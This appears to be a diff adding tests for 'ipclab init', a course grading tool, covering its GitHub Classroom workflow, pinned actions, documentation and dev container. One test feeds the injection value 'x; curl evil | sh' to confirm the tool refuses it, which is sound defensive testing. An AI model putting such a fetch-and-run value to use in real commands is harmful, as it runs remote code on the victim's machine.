@@ -103,6 +103,64 @@ describe('workflows', () => {
     expect(r.code).toBe(0);
   });
 
+  it("the student workflow is named and shaped as Classroom expects, pinned, with one reporter runner per test", async () => {
+    const repo = join(tmp, 'repo');
+    expect((await ipclab(['init', repo, '--exercise', 'pipe-copy', 'msgq-ping-pong', '--package', 'git+https://github.com/course/grading.git#v1'], tmp)).code).toBe(0);
+    const yml = readFileSync(join(repo, '.github/workflows/grade.yml'), 'utf8');
+    expect(yml).toMatch(/^name: Autograding Tests$/m);
+    expect(yml).toMatch(/^jobs:\n  run-autograding-tests:$/m);
+    expect(yml.match(/^  [a-z-]+:$/gm)!.filter((l) => l !== '  push:' && l !== '  repository_dispatch:' && l !== '  workflow_dispatch:' && l !== '  checks:')).toEqual(['  run-autograding-tests:']);
+    // every action at a full commit SHA, its tag in a comment
+    const uses = [...yml.matchAll(/^ +(?:- )?uses: (\S+)(.*)$/gm)];
+    expect(uses.length).toBe(4);
+    for (const [, ref, comment] of uses) {
+      expect(ref).toMatch(/^[\w-]+\/[\w-]+@[0-9a-f]{40}$/);
+      expect(comment).toMatch(/^ # v\d+(\.\d+)*$/);
+    }
+    expect(yml).not.toMatch(/apt-get/);
+    expect(yml).toContain('npm install --no-save --no-audit --no-fund git+https://github.com/course/grading.git#v1');
+    expect(existsSync(join(repo, '.ipclab'))).toBe(false);
+    // the runners: every test of both exercises, then ipclab, each with its variable and output
+    const runners = /^ +runners: (.*)$/m.exec(yml)![1].split(',');
+    const tests = (id: string) => readFileSync(join(root, 'exercises', id, 'exercise.yaml'), 'utf8').match(/^  - name: (\S+)$/gm)!.map((l) => `${id}_${l.split(': ')[1]}`);
+    expect(runners).toEqual([...tests('pipe-copy'), ...tests('msgq-ping-pong'), 'ipclab']);
+    for (const id of runners) expect(yml).toContain(`          ${id.toUpperCase()}_RESULTS: \${{ steps.ipclab.outputs['${id}'] }}\n`);
+    const r = await actionlint([join(repo, '.github/workflows/grade.yml')]);
+    expect(r.code).toBe(0);
+  });
+
+  it('docs/reports.md shows the workflow ipclab init writes: same names and pinned actions, and it passes actionlint', async () => {
+    const doc = readFileSync(join(root, 'docs', 'reports.md'), 'utf8');
+    const block = [...doc.matchAll(/```yaml\n([\s\S]*?)```/g)].map((m) => m[1]).find((b) => b.includes('Autograding Tests'))!;
+    writeFileSync(join(tmp, 'classroom.yml'), block);
+    const template = readFileSync(join(root, 'kits', 'student', 'grade.yml'), 'utf8');
+    const pins = (y: string) => [...y.matchAll(/uses: (\S+ # \S+)/g)].map((m) => m[1]);
+    for (const pin of pins(block)) expect(pins(template)).toContain(pin);
+    for (const line of ['name: Autograding Tests', '  run-autograding-tests:', "    if: github.actor != 'github-classroom[bot]'"]) {
+      expect(block).toContain(`${line}\n`);
+      expect(template).toContain(`${line}\n`);
+    }
+    expect((await actionlint([join(tmp, 'classroom.yml')])).code).toBe(0);
+  });
+
+  it('the student repository carries a dev container in which ipclab can isolate tests (macOS, Windows)', async () => {
+    const repo = join(tmp, 'repo');
+    expect((await ipclab(['init', repo, '--exercise', 'pipe-copy', '--package', 'github:course/grading#v1'], tmp)).code).toBe(0);
+    const dc = JSON.parse(readFileSync(join(repo, '.devcontainer', 'devcontainer.json'), 'utf8'));
+    // privileged: Docker's default seccomp profile refuses the namespaces and mounts a test needs
+    expect(dc.privileged).toBe(true);
+    expect(dc.image).toMatch(/^mcr\.microsoft\.com\/devcontainers\/javascript-node:\d+-bookworm$/);
+    expect(dc.postCreateCommand).toBe('npm install --no-save --no-audit --no-fund github:course/grading#v1');
+    expect(readFileSync(join(repo, 'README.md'), 'utf8')).toMatch(/### On macOS or Windows[\s\S]*Reopen in Container[\s\S]*npx ipclab doctor/);
+  });
+
+  it('init refuses a --package that is neither a file nor one plain package spec', async () => {
+    const r = await ipclab(['init', join(tmp, 'repo'), '--exercise', 'pipe-copy', '--package', 'x; curl evil | sh'], tmp);
+    expect(r.code).toBe(2);
+    expect(r.out).toContain('is neither a file nor an npm package spec');
+    expect(existsSync(join(tmp, 'repo'))).toBe(false);
+  });
+
   it('actionlint does fail a broken workflow (so the check above means something)', async () => {
     const bad = join(tmp, 'bad.yml');
     writeFileSync(bad, 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo ${{ github.nope }\n');
